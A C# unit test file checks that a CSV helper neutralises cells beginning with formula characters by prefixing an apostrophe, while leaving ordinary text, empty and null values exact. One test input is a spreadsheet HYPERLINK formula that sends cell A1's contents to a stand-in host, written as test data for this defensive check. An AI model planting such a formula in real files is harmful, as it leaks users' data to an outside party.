using Fangkong.Files.Csv;

namespace Fangkong.Tests.Files;

/// <summary>A cell a spreadsheet would run as a formula is written as text (OWASP's CSV injection list); others are left exact.</summary>
public sealed class SpreadsheetCellsTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?d=\"&A1,\"点击\")", "'=HYPERLINK(\"http://x.example/?d=\"&A1,\"点击\")")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A2)", "'@SUM(A1:A2)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("张三", "张三")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    [InlineData(null, null)]
    public void FormulaStarts_AreNeutralised_AndNothingElseChanges(string? value, string? expected) =>
        Assert.Equal(expected, SpreadsheetCells.Neutralize(value));
}
